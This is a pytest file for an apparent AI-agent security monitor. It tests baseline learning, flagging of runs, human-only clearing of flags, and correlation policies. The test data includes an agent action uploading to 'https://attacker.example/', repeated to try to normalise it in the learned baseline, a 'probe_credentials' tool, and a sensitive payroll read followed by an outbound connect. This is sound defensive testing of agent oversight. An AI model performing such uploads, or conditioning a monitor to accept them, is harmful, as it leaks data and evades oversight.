"""What is learned, when, and what never is."""

from __future__ import annotations

from dataclasses import replace

import pytest

from kaizen_security.contract.action import Action
from kaizen_security.contract.declaration import Declaration
from kaizen_security.observer.observer import Observer
from kaizen_security.observer.run import Limits
from kaizen_security.testing.playbook import Playbook, allow, call, connect, flag, read

DECLARED = Declaration(tools=("search", "read", "mail"))


def learned(book, dimension="tool"):
    return {row["value"] for row in book.inspector.profile(book.agent)["learned"][dimension]}


def test_an_action_that_was_only_asked_about_is_not_learned():
    assert learned(Playbook() >> call("search")) == set()


def test_its_result_completes_it():
    assert learned((Playbook() >> call("search")).done({"found": 3})) == {"search"}


def test_a_failed_action_is_not_learned():
    assert learned((Playbook() >> call("probe_credentials")).done(failed=True)) == set()


def test_a_lone_action_completes_by_itself_after_the_stated_time():
    book = Playbook() >> call("search")
    book.inspector.wake(1_000_000_001.0 + 4.9)
    assert learned(book) == set()
    book.inspector.wake(1_000_000_001.0 + 5.0)
    assert learned(book) == {"search"}


def test_ground_truth_is_complete_when_it_arrives():
    assert learned(Playbook() >> connect("api.example:443"), "destination") == {"api.example"}


def test_a_report_after_the_fact_is_complete_when_it_arrives():
    assert learned(Playbook(reported=True) >> call("search")) == {"search"}


def test_the_report_of_an_inspected_action_completes_it():
    book = Playbook()
    action = Action(tool="search", agent="agent", id="one")
    asked = book.inspector.inspect(action)
    assert learned(book) == set()
    assert book.inspector.observe(action) == asked
    assert learned(book) == {"search"}
    book.inspector.observe(action)
    assert book.inspector.profile("agent")["seen"] == 1


def test_an_effect_completes_the_act_that_it_is_of():
    book = Playbook() >> replace(call("send", run="r"), act_id="act-7")
    book.happened(Action(kind="connect", act_id="act-7", run_id="r")).ends("r", completed=False)
    assert learned(book) == {"send"}


def test_a_run_teaches_when_it_is_over_and_not_before():
    book = (Playbook() >> call("search", run="r")).done()
    assert learned(book) == set()
    assert learned(book.ends("r")) == {"search"}


def test_a_run_that_was_cut_off_teaches_only_what_completed():
    book = (Playbook() >> call("search", run="r")).done() >> call("mail", run="r")
    assert learned(book.ends("r", completed=False)) == {"search"}


def test_a_run_in_which_nothing_happens_any_more_is_over():
    book = Playbook() >> call("search", run="r")
    book.inspector.wake(1_000_000_000.0 + 299)
    assert learned(book) == set()
    book.inspector.wake(1_000_000_000.0 + 302)
    assert learned(book) == {"search"}


def test_nothing_is_learned_from_a_run_in_which_something_was_flagged():
    book = Playbook(declares=DECLARED, reported=True) >> call("search", run="r") << allow()
    book >> call("upload", run="r")
    book >> call("mail", run="r") << allow()
    assert learned(book.ends("r")) == set()


def test_the_id_of_a_flagged_run_stays_flagged_after_its_end():
    book = Playbook(declares=DECLARED, reported=True) >> call("upload", run="r")
    book.ends("r") >> call("search", run="r") << allow()
    assert learned(book.ends("r")) == set()


def test_a_flagged_action_repeated_ever_so_often_is_flagged_each_time():
    book = Playbook(reported=True).used_to([call("search")], times=120)
    for _ in range(300):
        book >> call("upload") << flag("new-tool")
    assert learned(book) == {"search"}


def test_only_a_person_can_teach_what_was_flagged():
    book = Playbook(reported=True).used_to([call("search")], times=120)
    book >> call("upload") << flag("new-tool")
    book.inspector.fold("agent", [Action(tool="upload", agent="agent")])
    book >> call("upload") << allow()


def test_what_was_learned_loosens_neither_policy_nor_declaration():
    book = Playbook(reported=True).used_to([call("upload", "https://attacker.example/")], times=200)
    strict = Playbook(declares=DECLARED, reported=True)
    strict.inspector.agents.lane(("", "agent")).observer.baseline = book.inspector.agents.lane(
        ("", "agent")
    ).observer.baseline
    strict >> call("upload", "https://attacker.example/")
    assert strict.verdict.blocked


def test_a_declared_tool_is_not_new_though_it_was_never_used():
    book = Playbook(declares=DECLARED).used_to([call("search")], times=120)
    book >> call("mail") << allow()


def test_it_says_that_it_abstains_and_why():
    book = Playbook().used_to([call("search")], times=12)
    book >> call("upload") << allow()
    assert book.verdict.notes == ("novelty abstains on tool: baseline too young, 12 of 99 observations",)


def test_an_agent_that_keeps_discovering_hears_why_novelty_is_silent():
    book = Playbook().used_to([Action(kind="http", target=f"https://s{n}.example/") for n in range(150)])
    book >> Action(kind="http", target="https://new.example/") << allow()
    assert "keeps finding new ones" in book.verdict.notes[0]


def test_runs_and_what_they_hold_are_bounded_and_what_had_to_go_is_counted():
    limits = Limits(runs=4, waiting=3, features=5, flagged=2)
    observer = Observer(detections=(), limits=limits)
    for n in range(40):
        action = Action(tool=f"t{n}", id=f"i{n}", run_id=f"r{n % 8}")
        observer.note(action, float(n))
        observer.learn(action, observer.weighed(action, float(n)), float(n), completed=n % 2 == 0)
    assert observer.runs == 4
    assert observer.losses.runs_evicted > 0
    loose = [Action(tool=f"t{n}", id=f"i{n}") for n in range(10)]
    for action in loose:
        observer.learn(action, observer.weighed(action, 50.0), 50.0, completed=False)
    assert observer.losses.waiting_evicted == 7
    for n in range(10):
        action = Action(tool=f"t{n}", id=f"i{n}", run_id="one")
        observer.learn(action, observer.weighed(action, 50.0), 50.0, completed=True)
    assert observer.losses.features_dropped > 0


def test_the_delegation_chain_of_a_run_is_kept():
    observer = Observer(detections=())
    observer.note(Action(run_id="r", delegation=("planner", "writer")), 1.0)
    observer.note(Action(run_id="r"), 2.0)
    assert observer.context(Action(run_id="r")).run.delegation == ("planner", "writer")


@pytest.mark.parametrize("first", [True, False])
def test_a_sensitive_read_counts_also_when_the_policy_came_after_it(first):
    from kaizen_security.contract.bundle import Bundle
    from kaizen_security.contract.policy import Policy

    policy = Policy("correlation", {"risky_sequence": "read_then_connect"})
    book = Playbook(policies=[policy] if first else [])
    book >> read("/srv/payroll.csv", sensitive=True, run="r")
    book.inspector.configure("agent", Bundle(agent="agent", version=2, policies=(policy,)))
    book >> Action(kind="connect", target="api.example:443", run_id="r")
    assert book.verdict.reason.startswith("blocked by correlation")
